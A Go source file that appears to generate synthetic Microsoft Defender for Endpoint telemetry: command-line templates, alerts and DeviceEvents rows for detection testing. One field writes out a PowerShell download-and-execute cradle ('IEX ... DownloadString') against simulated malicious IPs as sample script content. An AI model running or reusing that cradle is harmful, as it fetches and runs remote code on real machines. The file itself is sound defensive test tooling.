package sampledata

import (
	"encoding/json"
	"strconv"
	"strings"
	"time"
)

// render expands a command line template for a process of u on d.
func (g *gen) render(t *tmpl, d *device, u *user, p *proc) string {
	r := g.r
	buf := make([]byte, 0, t.size)
	for _, part := range t.parts {
		if part.ph == "" {
			buf = append(buf, part.lit...)
			continue
		}
		switch part.ph {
		case "user":
			buf = append(buf, userDir(u)...)
		case "host":
			buf = append(buf, d.short...)
		case "guid":
			buf = append(buf, r.guid()...)
		case "GUID":
			buf = append(buf, strings.ToUpper(r.guid())...)
		case "n3":
			buf = strconv.AppendInt(buf, int64(r.between(1, 999)), 10)
		case "n4":
			buf = strconv.AppendInt(buf, int64(r.between(1000, 9999)), 10)
		case "n6":
			buf = strconv.AppendInt(buf, int64(r.between(100000, 999999)), 10)
		case "n10":
			buf = strconv.AppendInt(buf, int64(r.between(1_000_000_000, 2_000_000_000)), 10)
		case "big":
			buf = strconv.AppendUint(buf, r.u64()%9_000_000_000_000_000_000+1_000_000_000_000_000_000, 10)
		case "hex5":
			buf = append(buf, r.hexString(5)...)
		case "hex8":
			buf = append(buf, r.hexString(8)...)
		case "hex64":
			buf = append(buf, r.hexString(64)...)
		case "HEX32":
			buf = append(buf, strings.ToUpper(r.hexString(32))...)
		case "b64":
			buf = append(buf, pick(r, g.b64)...)
		case "b64s":
			buf = append(buf, pick(r, []string{"Ac1NzD9Q", "AVx2bWkP", "ALk0+dPf", "AQ8mYt7u"})...)
		case "url":
			buf = append(buf, "https://"...)
			buf = append(buf, pick(r, benignDomains)...)
			buf = append(buf, '/')
			buf = append(buf, pick(r, urlPaths)...)
		case "murl":
			buf = append(buf, "http://"...)
			if r.chance(0.5) {
				buf = append(buf, pick(r, maliciousIPs)...)
			} else {
				buf = append(buf, pick(r, maliciousHosts)...)
			}
		case "mip":
			buf = append(buf, pick(r, maliciousIPs)...)
		case "doc":
			buf = append(buf, pick(r, docNames)...)
		case "dc":
			buf = append(buf, g.domainController().short...)
		case "srv":
			if len(g.w.servers) > 0 {
				buf = append(buf, pick(r, g.w.servers).short...)
			} else {
				buf = append(buf, d.short...)
			}
		case "lpid":
			if l := d.roots[g.bins.get("lsass.exe", osWindows).idx]; l != nil {
				buf = strconv.AppendInt(buf, l.pid, 10)
			} else {
				buf = append(buf, "672"...)
			}
		}
	}
	return string(buf)
}

// alertRec is an alert raised by suspicious activity; the alert tables are
// built from these.
type alertRec struct {
	id, systemID           string
	t                      time.Time
	dev                    *device
	acct                   *user
	p                      *proc
	th                     *threat
	source, service        string
	remoteIP, remoteURL    string
	incident               int
	fileName, folder, sha1 string
	sha256                 string
	fileSize               int64
}

// recordThreat notes a suspicious process creation, raises an alert for it
// (at most a few hundred) and writes the device events Defender would.
func (g *gen) recordThreat(d *device, p *proc, t time.Time, th *threat) {
	if len(g.alerts) >= 600 {
		return
	}
	r := g.r
	a := &alertRec{t: t.Add(time.Duration(r.between(5, 600)) * time.Second), dev: d, acct: p.user, p: p, th: th,
		source: pick(r, []string{"EDR", "EDR", "Antivirus", "CustomDetection"}), service: "Microsoft Defender for Endpoint",
		fileName: p.bin.name, folder: p.folder, sha1: p.bin.sha1, sha256: p.bin.sha256, fileSize: p.bin.size}
	a.id = "da" + strconv.FormatInt(a.t.UnixNano()/100+621355968000000000, 10) + "_" + strconv.FormatInt(-int64(r.between(100000000, 2147483647)), 10)
	a.systemID = r.guid()
	a.remoteIP = pick(r, maliciousIPs)
	a.remoteURL = pick(r, maliciousHosts)
	g.alerts = append(g.alerts, a)
	if s := g.endpoint; s != nil && s.dve != nil {
		action := "AntivirusDetection"
		switch {
		case p.bin.name == "powershell.exe":
			action = "AmsiScriptDetection"
		case strings.Contains(th.technique, "T1003"):
			action = "OpenProcessApiCall"
		case p.bin.name == "schtasks.exe":
			action = "ScheduledTaskCreated"
		case p.bin.name == "wevtutil.exe":
			action = "SecurityLogCleared"
		case p.bin.name == "net.exe" && strings.Contains(p.cmd, "/add"):
			action = "UserAccountCreated"
		}
		_ = s.emitDeviceEvent(d, p, a.t.Add(-time.Second), action)
	}
}

var deviceActionWeights = map[string]float64{
	"DnsQueryResponse": 20, "PowerShellCommand": 12, "NamedPipeEvent": 10, "ProcessCreatedUsingWmiQuery": 3,
	"BrowserLaunchedToOpenUrl": 6, "ScreenshotTaken": 2, "GetClipboardData": 2, "OpenProcessApiCall": 4,
	"CreateRemoteThreadApiCall": 1.5, "ReadProcessMemoryApiCall": 1, "NtAllocateVirtualMemoryApiCall": 1.5,
	"LdapSearch": 3, "ScheduledTaskUpdated": 2, "ScheduledTaskCreated": 1, "UsbDriveMounted": 0.6,
	"PnpDeviceConnected": 1.5, "SmartScreenUrlWarning": 0.5, "FirewallInboundConnectionBlocked": 3,
	"AntivirusScanCompleted": 1.5, "AntivirusDefinitionsUpdated": 1, "ServiceInstalled": 0.8, "DpapiAccessed": 2,
	"AmsiScriptContent": 2, "DriverLoad": 1, "ExploitGuardNetworkProtectionBlocked": 0.2, "AsrOfficeChildProcessAudited": 0.3,
	"AsrLsassCredentialTheftAudited": 0.3, "TamperingAttempt": 0.1, "UserAccountModified": 0.3,
}

func (g *gen) deviceActionPicker() *weighted[string] {
	if g.devActions != nil {
		return g.devActions
	}
	acts := g.cat.ActionTypes("DeviceEvents")
	if len(acts) == 0 {
		acts = []string{"PowerShellCommand"}
	}
	g.devActions = newWeighted(acts, func(a string) float64 {
		if w, ok := deviceActionWeights[a]; ok {
			return w
		}
		return 0.05
	})
	return g.devActions
}

// deviceEvent writes one DeviceEvents row for p.
func (s *endpointSim) deviceEvent(d *device, p *proc, t time.Time) error {
	action := s.g.deviceActionPicker().pick(s.g.r)
	if p.bin.name == "powershell.exe" && s.g.r.chance(0.6) {
		action = "PowerShellCommand"
	}
	return s.emitDeviceEvent(d, p, t, action)
}

var psCommands = []string{"Get-Process", "Get-ChildItem", "Get-CimInstance", "Invoke-WebRequest", "ConvertTo-Json", "Get-Service",
	"Set-Location", "Get-ItemProperty", "Test-NetConnection", "Get-WinEvent", "Import-Module", "Get-ADUser", "Invoke-Expression"}

var dnsNames = []string{"login.microsoftonline.com", "graph.microsoft.com", "outlook.office365.com", "www.google.com", "github.com",
	"api.contoso.com", "srv-fs01.contoso.local", "wpad.contoso.local", "settings-win.data.microsoft.com", "teams.microsoft.com"}

func (s *endpointSim) emitDeviceEvent(d *device, p *proc, t time.Time, action string) error {
	o := s.dve
	if o == nil {
		return nil
	}
	g, r := s.g, s.g.r
	e := &o.e
	*e = ev{table: o.t.Name, t: t, dev: d, ip: p, action: action, acct: p.user, localIP: d.ip}
	var add any
	switch action {
	case "PowerShellCommand":
		add = map[string]string{"Command": pick(r, psCommands)}
	case "AmsiScriptDetection", "AmsiScriptContent":
		add = map[string]any{"ScriptContent": "IEX (New-Object Net.WebClient).DownloadString('http://" + pick(r, maliciousIPs) + "/a')", "Description": "Suspicious script content"}
	case "DnsQueryResponse":
		q := pick(r, dnsNames)
		if p.threat != nil {
			q = pick(r, maliciousHosts)
		}
		add = map[string]any{"DnsQueryString": q, "DnsQueryResult": []map[string]any{{"DnsQueryType": 1, "Address": pick(r, benignRemotes)}}}
		e.remoteIP = g.domainController().ip
		e.remotePort = 53
	case "BrowserLaunchedToOpenUrl", "SmartScreenUrlWarning":
		e.remoteURL = "https://" + pick(r, benignDomains) + "/" + pick(r, urlPaths)
		if action == "SmartScreenUrlWarning" {
			e.remoteURL = "http://" + pick(r, maliciousHosts) + "/login"
		}
	case "AntivirusDetection", "AntivirusReport":
		fam := "Trojan:Win32/Wacatac.B!ml"
		if p.threat != nil && p.threat.family != "" {
			fam = "Trojan:Win32/" + p.threat.family + ".A"
		}
		add = map[string]any{"ThreatName": fam, "WasRemediated": r.chance(0.8), "WasExecutingWhileDetected": r.chance(0.3), "Action": "quarantine"}
		e.fp = p
	case "OpenProcessApiCall", "ReadProcessMemoryApiCall", "CreateRemoteThreadApiCall", "NtAllocateVirtualMemoryApiCall":
		if l := d.roots[g.bins.get("lsass.exe", osWindows).idx]; l != nil && (p.threat != nil || r.chance(0.3)) {
			e.proc = l
			e.fp = l
		} else {
			e.proc = p
		}
		add = map[string]any{"DesiredAccess": 4112}
	case "ScheduledTaskCreated", "ScheduledTaskUpdated":
		add = map[string]any{"TaskName": "\\Microsoft\\Windows\\UpdateOrchestrator\\UpdateCheck", "TaskContent": "<Task><Actions><Exec><Command>powershell.exe</Command></Exec></Actions></Task>"}
	case "NamedPipeEvent":
		add = map[string]any{"PipeName": "\\Device\\NamedPipe\\mojo." + itoa(int(p.pid)) + "." + r.hexString(8), "FileOperation": "File opened", "NamedPipeEnd": "Client"}
	case "LdapSearch":
		add = map[string]any{"AttributeList": []string{"samAccountName", "objectSid", "memberOf"}, "SearchFilter": "(&(objectCategory=person)(objectClass=user))", "DistinguishedName": "DC=contoso,DC=local"}
		e.remoteIP = g.domainController().ip
		e.remotePort = 389
	case "UserAccountCreated", "UserAccountModified":
		e.acct = &user{sam: "helpdesk_adm", domain: d.short, sid: "S-1-5-21-1004336348-1177238915-682003330-1008"}
	case "FirewallInboundConnectionBlocked":
		e.remoteIP = pick(r, maliciousIPs)
		e.remotePort = int32(r.between(1024, 65535))
		e.localPort = int32(pick(r, []int{3389, 445, 22, 5985}))
	case "UsbDriveMounted", "PnpDeviceConnected":
		add = map[string]any{"DriveLetter": "E:", "ProductName": "SanDisk Ultra", "SerialNumber": strings.ToUpper(r.hexString(12)), "Manufacturer": "SanDisk"}
	case "ProcessCreatedUsingWmiQuery":
		e.proc = p
	case "SecurityLogCleared":
		add = map[string]any{"Channel": "Security"}
	}
	if add != nil {
		b, _ := json.Marshal(add)
		e.additional = b
	} else {
		e.additional = emptyObject
	}
	if e.proc == nil && r.chance(0.3) {
		e.proc = p
	}
	if e.fileName == "" && e.fp == nil && r.chance(0.5) {
		e.fp = p
	}
	return o.emit(e)
}
